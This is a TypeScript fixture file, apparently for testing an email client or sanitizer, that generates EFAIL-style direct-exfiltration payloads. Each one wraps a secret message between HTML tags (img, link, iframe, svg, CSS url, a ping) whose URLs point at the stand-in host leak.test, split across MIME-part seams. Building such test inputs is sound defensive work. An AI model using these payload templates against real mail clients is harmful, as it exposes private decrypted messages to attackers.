const secret = 'Dear Dr. Rivera, my test results came back.'

/** An attribute or a style sheet that one part opens and another closes, around what was secret. */
const pairs: readonly (readonly [open: string, close: string])[] = [
  ['<img src="https://leak.test/?', '">'],
  ["<img src='https://leak.test/?", "'>"],
  ['<img src=https://leak.test/?', '>'],
  ['<img srcset="https://leak.test/?', '">'],
  ['<link rel=stylesheet href="https://leak.test/?', '">'],
  ['<body background="https://leak.test/?', '">'],
  ['<video poster="https://leak.test/?', '"></video>'],
  ['<input type=image src="https://leak.test/?', '">'],
  ['<iframe src="https://leak.test/?', '"></iframe>'],
  ['<svg><image href="https://leak.test/?', '"/></svg>'],
  ["<p style=\"background:url('https://leak.test/?", '\')">x</p>'],
  ['<a ping="https://leak.test/?', '" href="https://ok.example">x</a>'],
]

/** What stands between two parts in one document: our own rule, or what careless programs put there. */
const seams = ['\n<hr>\n', '\n', '</div></body></html>\n<html><body><div>', '<pre class=moz-quote-pre wrap>']

/** Direct exfiltration (EFAIL): another's words become a part of an address. */
export const acrossParts: readonly string[] = pairs.flatMap(([open, close]) =>
  seams.map((seam) => `${open}${seam}${secret}${seam}${close}`),
)
